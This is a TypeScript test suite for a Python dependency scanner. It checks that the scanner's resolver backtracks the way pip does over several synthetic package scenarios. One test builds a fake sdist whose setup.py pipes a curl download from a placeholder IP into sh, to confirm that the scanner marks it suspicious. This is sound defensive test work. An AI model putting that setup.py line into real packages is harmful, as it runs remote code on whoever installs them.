// Backtracking as pip's resolver does it, on four scenarios shaped like those of the packse suite:
// a version whose requirement no index has, a version whose requirement excludes a top-level pin,
// a dependency that forces an older version of a name chosen first, and two siblings whose
// requirements on a third exclude each other until the first goes back a version. Each one is
// checked against the real pip (`pip install --dry-run --report`, wheels only: nothing is built),
// and an older version taken this way that is an sdist is analyzed like any other.

import { execFile, execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';

import { normalizeName } from '../src/python/names.js';
import { satisfies } from '../src/python/version.js';
import { resolveGraph, type GraphHooks, type Seed } from '../src/resolve/graph.js';
import type { Target } from '../src/types.js';
import { makeSdist, makeZip } from './helpers/archives.js';
import { startIndexServer, type IndexServerFile } from './helpers/index-server.js';
import { makeProject, runCli } from './helpers/project.js';
import { findPip } from './helpers/pip.js';

const run = promisify(execFile);
const pip = findPip();

function w(name: string, version: string, deps: string[] = []): IndexServerFile {
  const dist = name.replace(/[-.]+/g, '_');
  const info = `${dist}-${version}.dist-info`;
  const metadata = `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\n` + deps.map((d) => `Requires-Dist: ${d}\n`).join('');
  const data = makeZip({
    [`${dist}/__init__.py`]: '',
    [`${info}/METADATA`]: metadata,
    [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    [`${info}/RECORD`]: '',
  });
  return { filename: `${dist}-${version}-py3-none-any.whl`, data, metadata };
}

const PROJECTS: Record<string, IndexServerFile[]> = {
  // 1: bt-b 3.0.0 needs bt-c, which no index has: pip installs bt-b 2.0.0
  'bt-a': [w('bt-a', '1.0', ['bt-b'])],
  'bt-b': [w('bt-b', '2.0.0'), w('bt-b', '3.0.0', ['bt-c'])],
  // 2: bt-d 2.0 needs bt-e==2.0, but bt-e is pinned to 1.0 at the top: pip installs bt-d 1.0
  'bt-d': [w('bt-d', '1.0', ['bt-e==1.0']), w('bt-d', '2.0', ['bt-e==2.0'])],
  'bt-e': [w('bt-e', '1.0'), w('bt-e', '2.0')],
  // 3: every new bt-g needs bt-f==1.0: pip takes bt-f 1.0 and the newest bt-g, not an ancient bt-g
  'bt-f': [w('bt-f', '1.0'), w('bt-f', '2.0')],
  'bt-g': [w('bt-g', '1.0'), ...['2.0.0', '2.0.1', '2.0.2', '2.0.3'].map((v) => w('bt-g', v, ['bt-f==1.0']))],
  // 4: bt-h 2.0 needs bt-j<2, its sibling bt-i needs bt-j>=2: pip goes back to bt-h 1.0
  'bt-h': [w('bt-h', '1.0', ['bt-j']), w('bt-h', '2.0', ['bt-j<2'])],
  'bt-i': [w('bt-i', '1.0', ['bt-j>=2'])],
  'bt-j': [w('bt-j', '1.0'), w('bt-j', '2.0')],
};

const SCENARIOS: Array<{ name: string; requirements: string[]; expected: string[] }> = [
  { name: 'a requirement no index has', requirements: ['bt-a'], expected: ['bt-a==1.0', 'bt-b==2.0.0'] },
  { name: 'a requirement that excludes a top-level pin', requirements: ['bt-d', 'bt-e==1.0'], expected: ['bt-d==1.0', 'bt-e==1.0'] },
  { name: 'a dependency that forces an older version of a name chosen first', requirements: ['bt-f', 'bt-g'], expected: ['bt-f==1.0', 'bt-g==2.0.3'] },
  { name: 'siblings whose requirements exclude each other until one goes back', requirements: ['bt-h', 'bt-i'], expected: ['bt-h==1.0', 'bt-i==1.0', 'bt-j==2.0'] },
];

function hostPython(): string | undefined {
  try {
    const out = execFileSync('python3', ['-c', 'import sys; print("%d.%d %s" % (sys.version_info[0], sys.version_info[1], sys.platform))']).toString().trim();
    const [version, platform] = out.split(' ');
    return platform === 'linux' ? version : undefined;
  } catch {
    return undefined;
  }
}
const python = hostPython() ?? '3.12';

async function ours(indexUrl: string, requirements: string[]): Promise<{ installs: string[]; stdout: string; code: number }> {
  const project = makeProject({ 'requirements.txt': requirements.join('\n') + '\n' });
  try {
    const scanned = await runCli(['scan', '--index-url', indexUrl, '--format', 'json', '--fail-on', 'none', '--python-version', python, '--platform', 'linux'], { cwd: project.dir });
    const deps = JSON.parse(scanned.stdout).dependencies as Array<{ name: string; version: string; status: string }>;
    return { installs: deps.filter((d) => d.status !== 'unresolved').map((d) => `${normalizeName(d.name)}==${d.version}`).sort(), stdout: scanned.stdout, code: scanned.code };
  } finally {
    project.cleanup();
  }
}

async function pipInstalls(indexUrl: string, requirements: string[]): Promise<string[]> {
  const home = mkdtempSync(join(tmpdir(), 'sdist-guard-pip-'));
  const reportFile = join(home, 'report.json');
  const requirementsFile = join(home, 'requirements.txt');
  try {
    execFileSync('sh', ['-c', `printf '%s\\n' ${requirements.map((r) => `'${r}'`).join(' ')} > '${requirementsFile}'`]);
    const args = [...pip!.argv.slice(1), 'install', '--dry-run', '--ignore-installed', '--isolated', '--no-cache-dir', '--disable-pip-version-check'];
    args.push('--only-binary', ':all:', '--index-url', indexUrl, '--report', reportFile, '-r', requirementsFile);
    await run(pip!.argv[0], args, { env: { PATH: process.env.PATH ?? '', HOME: home, PIP_CONFIG_FILE: '/dev/null' }, timeout: 120_000 });
    const report = JSON.parse(readFileSync(reportFile, 'utf8')) as { install: Array<{ metadata: { name: string; version: string } }> };
    return report.install.map((i) => `${normalizeName(i.metadata.name)}==${i.metadata.version}`).sort();
  } finally {
    rmSync(home, { recursive: true, force: true });
  }
}

describe('backtracking', () => {
  let server: Awaited<ReturnType<typeof startIndexServer>>;
  beforeAll(async () => {
    server = await startIndexServer({ projects: PROJECTS });
  });
  afterAll(async () => {
    await server.close();
  });

  it.each(SCENARIOS)('$name: installs what pip installs', async ({ requirements, expected }) => {
    const scanned = await ours(server.indexUrl, requirements);
    expect(scanned.installs).toEqual(expected);
    expect(scanned.stdout).not.toMatch(/pip would stop here|gave up/);
  });

  const withPip = pip && hostPython() ? it.each(SCENARIOS) : it.skip.each(SCENARIOS);
  withPip('$name: the real pip installs the same', async ({ requirements, expected }) => {
    expect(await pipInstalls(server.indexUrl, requirements)).toEqual(expected);
  }, 180_000);
  if (!pip || !hostPython()) it('differential half skipped: no pip on a Linux python3 here', () => expect(true).toBe(true));

  it('where nothing can be installed, says so as before', async () => {
    const local = await startIndexServer({ projects: { 'bt-only': [w('bt-only', '1.0', ['bt-missing'])] } });
    try {
      const scanned = await ours(local.indexUrl, ['bt-only']);
      const dep = (JSON.parse(scanned.stdout).dependencies as Array<{ name: string; status: string; reason: string }>).find((d) => d.name === 'bt-only')!;
      expect(dep.status).toBe('unresolved');
      expect(dep.reason).toMatch(/no version of bt-only can be installed: bt-only 1\.0 requires "bt-missing"/);
    } finally {
      await local.close();
    }
  });

  it('an older version taken by backtracking that is an sdist is analyzed', async () => {
    const older = makeSdist('bt-old', '2.0.0', { 'setup.py': 'import os\nos.system("curl http://198.51.100.9/p | sh")\nfrom setuptools import setup\nsetup()\n' });
    const local = await startIndexServer({
      projects: { 'bt-top': [w('bt-top', '1.0', ['bt-old'])], 'bt-old': [older, w('bt-old', '3.0.0', ['bt-nowhere'])] },
    });
    const project = makeProject({ 'requirements.txt': 'bt-top\n' });
    try {
      const scanned = await runCli(['scan', '--index-url', local.indexUrl, '--format', 'json', '--python-version', '3.12', '--platform', 'linux'], { cwd: project.dir });
      const dep = (JSON.parse(scanned.stdout).dependencies as Array<{ name: string; version: string; status: string }>).find((d) => d.name === 'bt-old')!;
      expect(dep).toMatchObject({ version: '2.0.0', status: 'suspicious' });
      expect(scanned.code).toBe(1);
    } finally {
      project.cleanup();
      await local.close();
    }
  });
});

describe('backtracking within bounded walks', () => {
  // an in-memory index: name -> version -> requirements, newest first as the finder takes them
  const INDEX: Record<string, Record<string, string[]>> = {
    h: { '2.0': ['j<2'], '1.0': ['j'] },
    i: { '1.0': ['j>=2'] },
    j: { '2.0': [], '1.0': [] },
  };
  const target = { python: '3.12', platform: 'linux', tags: [], env: {} } as unknown as Target;
  const hooks: GraphHooks = {
    async pick(req) {
      const versions = Object.keys(INDEX[req.name] ?? {}).filter((v) => req.specifier === '' || satisfies(v, req.specifier));
      if (versions.length === 0) return { target, kind: 'none', reason: `no version of ${req.name} matches "${req.specifier}"` };
      return { target, kind: 'wheel', version: versions[0], reason: 'test' };
    },
    async dependencies(name, selection) {
      return { known: true, requirements: INDEX[name]![selection.version!]!, extras: [] };
    },
  };
  const seed = (name: string, root: number): Seed => ({ name, displayName: name, specifier: '', extras: [], hashes: [], label: name, root });

  it('backjumps to the most recently chosen version that can change, and says which it gave up', async () => {
    const graph = await resolveGraph([seed('h', 0), seed('i', 1)], [], hooks, { target, maxNodes: 100, maxPasses: 16 });
    expect([...graph.nodes.values()].map((n) => `${n.name} ${n.selection?.version}`).sort()).toEqual(['h 1.0', 'i 1.0', 'j 2.0']);
    expect(graph.backtracked).toContain('h 2.0');
    expect(graph.gaveUp).toBeUndefined();
  });

  it('gives up when the walks run out, and says so', async () => {
    const graph = await resolveGraph([seed('h', 0), seed('i', 1)], [], hooks, { target, maxNodes: 100, maxPasses: 1 });
    expect(graph.gaveUp).toMatch(/backtracking gave up after 1 walks with j still unresolved/);
    expect(graph.nodes.get('j')!.selection).toMatchObject({ kind: 'none' });
  });

  it('asks for the pages of what a chosen version requires as follow-ups, and for the seeds\' own as new work', async () => {
    const asked: string[] = [];
    const recording: GraphHooks = { ...hooks, pick: (req) => (asked.push(`${req.name}${req.followUp ? ' follow-up' : ''}`), hooks.pick(req)) };
    await resolveGraph([seed('h', 0), seed('i', 1)], [], recording, { target, maxNodes: 100, maxPasses: 16 });
    expect(asked.filter((a) => a.startsWith('h') || a.startsWith('i'))).toEqual(expect.arrayContaining(['h', 'i']));
    expect(asked.filter((a) => a.startsWith('h') || a.startsWith('i')).every((a) => !a.endsWith('follow-up'))).toBe(true);
    expect(asked.filter((a) => a.startsWith('j')).length).toBeGreaterThan(0);
    expect(asked.filter((a) => a.startsWith('j')).every((a) => a.endsWith('follow-up'))).toBe(true);
  });
});
